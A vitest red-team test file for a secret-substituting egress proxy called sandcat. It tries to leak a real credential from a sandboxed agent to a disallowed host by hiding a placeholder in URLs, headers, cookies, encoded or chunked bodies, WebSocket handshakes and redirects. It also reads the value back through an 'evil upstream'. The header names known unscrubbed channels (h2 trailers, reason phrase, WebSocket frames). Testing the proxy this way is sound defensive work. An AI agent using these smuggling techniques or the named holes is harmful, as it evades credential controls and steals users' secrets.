/**
 * Red team, secrets: the agent holds only a placeholder and tries (1) to make sandcat put the real
 * value into a request toward a host outside the secret's `hosts`, by hiding the placeholder in every
 * part of a request and every encoding, over TLS, cleartext, HTTP/2 and WebSocket; and (2) to read
 * the real value back from an upstream that reflects it through every response channel
 * (attacks-upstream.mjs). Proof is what reached each upstream and what the agent's client printed.
 *
 * Holes found by the same campaign (h2 trailers, the HTTP/1 reason phrase and WebSocket frames are
 * not scrubbed) are in the red-team report, not here.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLab, LAB_IP, labSkipReason, type Lab } from './lib/index.js';
import { probe, startEvilUpstream, statusOf, type EvilUpstream } from './attacks-lib.js';

const skip = labSkipReason();
if (skip) console.warn(`skipping the secrets attacks lab test: ${skip}`);

const VALUE = 'attack-lab-REAL-5e2d91c7';
const PH = 'SANDCAT_PLACEHOLDER_TOKEN';
const EVIL_TLS = 9443;
const EVIL_PLAIN = 9080;
const UP4 = LAB_IP.upstream4;

const SETTINGS = {
  secrets: { TOKEN: { value: VALUE, hosts: ['api.allowed.test'] } },
  network: [
    { action: 'allow', host: 'api.allowed.test' },
    { action: 'allow', host: 'other.allowed.test' },
    { action: 'allow', host: 'plain.allowed.test' },
  ],
};

const pct = (s: string, lower = false) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).map((x) => (lower ? x : x.toUpperCase())).join('');
const b64 = (s: string) => Buffer.from(s).toString('base64');

describe.skipIf(skip)('red team: secrets', () => {
  let lab: Lab;
  let evil: EvilUpstream;
  const valueReachedEvil = () => evil.events.filter((e) => e.kind === 'evil-http' && e.v === VALUE);

  beforeAll(async () => {
    lab = await createLab({ tag: 'h8s', settings: SETTINGS });
    evil = await startEvilUpstream(lab, { tlsPort: EVIL_TLS, plainPort: EVIL_PLAIN });
  }, 120_000);

  afterAll(async () => {
    await evil?.stop();
    await lab?.destroy();
  });

  it('a placeholder hidden anywhere in a request to a host outside the secret’s hosts is 403 and nothing reaches it', async () => {
    lab.clearUpstreamLog();
    const U = 'https://other.allowed.test/echo';
    const gz = (await lab.exec('agent', 'bash', ['-c', `printf %s ${PH} | gzip | base64 -w0`])).stdout;
    const df = (await lab.exec('agent', 'python3', ['-c', `import zlib,base64;print(base64.b64encode(zlib.compress(b"${PH}")).decode())`])).stdout.trim();
    const cases: Array<[string, string[]]> = [
      ['query', [`${U}?t=${PH}`]],
      ['path', [`https://other.allowed.test/echo/${PH}`]],
      ['percent-encoded path (upper)', [`https://other.allowed.test/echo/${pct(PH)}`]],
      ['percent-encoded path (lower)', [`https://other.allowed.test/echo/${pct(PH, true)}`]],
      ['one escaped letter', [`https://other.allowed.test/echo/%53${PH.slice(1)}`]],
      ['escaped underscores in the query', [`${U}?q=${PH.replace(/_/g, '%5f')}`]],
      ['header value', ['-H', `X-Token: ${PH}`, U]],
      ['header name', ['-H', `X-${PH}: 1`, U]],
      ['cookie', ['-H', `Cookie: a=1; t=${PH}`, U]],
      ['Authorization: Basic', ['-H', `Authorization: Basic ${b64(`x:${PH}`)}`, U]],
      ['authorization: basic (lower case)', ['-H', `authorization: basic ${b64(`${PH}:x`)}`, U]],
      ['userinfo in the URL (curl makes it Basic)', [`https://x:${PH}@other.allowed.test/echo`]],
      ['form body', ['--data', `t=${PH}`, U]],
      ['multipart body', ['-F', `f=${PH}`, U]],
      ['gzip body', ['-H', 'Content-Encoding: gzip', '--data-binary', `@<(echo ${gz} | base64 -d)`, U]],
      ['deflate body', ['-H', 'Content-Encoding: deflate', '--data-binary', `@<(echo ${df} | base64 -d)`, U]],
      ['identity coding', ['-H', 'Content-Encoding: identity', '--data', PH, U]],
      ['two Content-Encoding headers', ['-H', 'Content-Encoding: identity', '-H', 'Content-Encoding: gzip', '--data-binary', `@<(echo ${gz} | base64 -d)`, U]],
    ];
    for (const [what, args] of cases) {
      const quoted = args.map((a) => (a.startsWith('@<(') ? a : `'${a.replace(/'/g, `'\\''`)}'`)).join(' ');
      const r = await lab.exec('agent', 'bash', ['-c', `curl -sS --http1.1 --cacert ${lab.dirs.public}/ca.pem -m 10 -o /dev/null -w '%{http_code}' ${quoted}`]);
      expect(r.stdout, what).toBe('403');
    }
    for (const args of [['-H', `X-Token: ${PH}`, U], [`${U}?t=${PH}`]]) {
      expect((await lab.agentCurl(['--http2', '-o', '/dev/null', ...args])).status, `h2 ${args.join(' ')}`).toBe(403);
    }
    // A body coding sandcat cannot read is refused rather than passed unchecked.
    expect((await lab.agentCurl(['--http1.1', '-o', '/dev/null', '-H', 'Content-Encoding: zstd', '--data', PH, U])).status).toBe(415);
    expect(lab.upstreamRequests({ host: 'other.allowed.test' })).toHaveLength(0);
  });

  it('a placeholder split over one-byte chunks is still seen: 403 toward another host, substituted toward its own', async () => {
    lab.clearUpstreamLog();
    const chunked = (host: string) => {
      const body = `t=${PH}&end=1`;
      const chunks = [...body].map((c) => `1\r\n${c}\r\n`).join('');
      return [`POST /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`, ...chunks.match(/[\s\S]{1,6}/g)!.flatMap((c) => [c, { pause: 0.002 }]), '0\r\n\r\n'];
    };
    const other = await probe(lab, { host: UP4, port: 443, tls: true, sni: 'other.allowed.test', alpn: ['http/1.1'], send: chunked('other.allowed.test') as never });
    expect(statusOf(other.data)).toBe(403);
    expect(lab.upstreamRequests({ host: 'other.allowed.test' })).toHaveLength(0);
    const own = await probe(lab, { host: UP4, port: 443, tls: true, sni: 'api.allowed.test', alpn: ['http/1.1'], send: chunked('api.allowed.test') as never });
    expect(statusOf(own.data)).toBe(200);
    expect(lab.upstreamRequests({ host: 'api.allowed.test' })[0]?.body).toBe(`t=${VALUE}&end=1`);
    // The upstream echoed the value back: the agent reads the placeholder.
    expect(own.data).not.toContain(VALUE);
    expect(own.data).toContain(PH);
  });

  it('no substitution in cleartext: HTTP and ws:// to the secret’s own host are 403', async () => {
    lab.clearUpstreamLog();
    for (const args of [['-H', `Authorization: Bearer ${PH}`], ['--data', PH], ['-u', `x:${PH}`]]) {
      expect((await lab.agentCurl(['-o', '/dev/null', ...args, 'http://api.allowed.test/echo'])).status, args.join(' ')).toBe(403);
    }
    expect((await lab.agentCurl(['-o', '/dev/null', `http://api.allowed.test/echo?t=${PH}`])).status).toBe(403);
    const ws = await probe(lab, { host: UP4, port: EVIL_PLAIN, send: [`GET /ws HTTP/1.1\r\nHost: api.allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer ${PH}\r\n\r\n`] });
    expect(statusOf(ws.data)).toBe(403);
    expect(lab.upstreamRequests()).toHaveLength(0);
    expect(evil.events.filter((e) => e.kind === 'evil-upgrade')).toHaveLength(0);
  });

  it('a WebSocket handshake carrying the placeholder to another host is 403', async () => {
    const tlsWs = await probe(lab, { host: UP4, port: EVIL_TLS, tls: true, sni: 'other.allowed.test', alpn: ['http/1.1'], send: [`GET /ws HTTP/1.1\r\nHost: other.allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer ${PH}\r\n\r\n`] });
    expect(statusOf(tlsWs.data)).toBe(403);
    expect(evil.events.filter((e) => e.kind === 'evil-upgrade')).toHaveLength(0);
  });

  it('SNI of another host with the secret’s host in Host: the value goes only to the secret’s host', async () => {
    lab.clearUpstreamLog();
    const r = await lab.agentCurl(['--http1.1', '-H', 'Host: api.allowed.test', '-H', `Authorization: Bearer ${PH}`, 'https://other.allowed.test/echo']);
    expect(r.status).toBe(200);
    const seen = lab.upstreamRequests();
    expect(seen).toHaveLength(1);
    // The proxy connects by the Host name with its own TLS: SNI and certificate are api.allowed.test's.
    expect(seen[0]).toMatchObject({ host: 'api.allowed.test', sni: 'api.allowed.test' });
    expect(seen[0]!.headers.authorization).toBe(`Bearer ${VALUE}`);
    expect(r.body).not.toContain(VALUE);
  });

  it('following a redirect to another host with the placeholder in its URL is 403 on the second hop', async () => {
    lab.clearUpstreamLog();
    const r = await lab.agentCurl(['--http1.1', '-L', '-H', `Authorization: Bearer ${PH}`, `https://api.allowed.test:${EVIL_TLS}/location`]);
    expect(valueReachedEvil().length).toBeGreaterThan(0);
    expect(r.status).toBe(403);
    expect(r.body).not.toContain(VALUE);
    expect(lab.upstreamRequests({ host: 'other.allowed.test' })).toHaveLength(0);
  });

  it('a value the upstream reflects in headers, Location, cookies, split, gzip and brotli bodies reaches the agent as the placeholder', async () => {
    const paths = ['/', '/location', '/gzip-split', '/split', '/br', '/multi-enc', '/range', '/head-echo', '/early', '/trailer'];
    for (const proto of ['--http1.1', '--http2']) {
      for (const p of paths) {
        if (proto === '--http2' && p === '/trailer') continue; // h2 trailers: a known hole (report)
        const before = valueReachedEvil().length;
        const r = await lab.exec('agent', 'curl', ['-sS', '-i', '--raw', proto, '--cacert', `${lab.dirs.public}/ca.pem`, '-m', '10', '-H', `Authorization: Bearer ${PH}`, '-H', 'TE: trailers', `https://api.allowed.test:${EVIL_TLS}${p}`]);
        expect(valueReachedEvil().length, `${proto} ${p}: the upstream received the value`).toBe(before + 1);
        expect(r.stdout, `${proto} ${p}`).not.toContain(VALUE);
        if (p !== '/trailer' && p !== '/early') expect(r.stdout, `${proto} ${p} reflected as the placeholder`).toContain(PH);
      }
    }
    // HEAD: headers reflected, no body.
    const head = await lab.exec('agent', 'curl', ['-sS', '-I', '--http1.1', '--cacert', `${lab.dirs.public}/ca.pem`, '-H', `Authorization: Bearer ${PH}`, `https://api.allowed.test:${EVIL_TLS}/head-echo`]);
    expect(head.stdout).toContain(`x-echo: ${PH}`);
    expect(head.stdout).not.toContain(VALUE);
  });

  it('no sandcat output holds the value: not the daemon log, not a 403 or 502 body', async () => {
    const r403 = await lab.agentCurl(['--http1.1', '-H', `Authorization: Bearer ${PH}`, 'https://other.allowed.test/echo']);
    expect(r403.status).toBe(403);
    expect(r403.body).toContain('TOKEN');
    expect(r403.body).not.toContain(VALUE);
    const r502 = await lab.agentCurl(['--http1.1', '-H', `Authorization: Bearer ${PH}`, 'https://api.allowed.test:9999/']);
    expect(r502.status).toBe(502);
    expect(r502.body).not.toContain(VALUE);
    expect(lab.daemonLogText()).not.toContain(VALUE);
    expect(lab.daemonLogText()).toMatch(/secret-leak/); // sanity: the log is the one that saw the leaks
  });
});
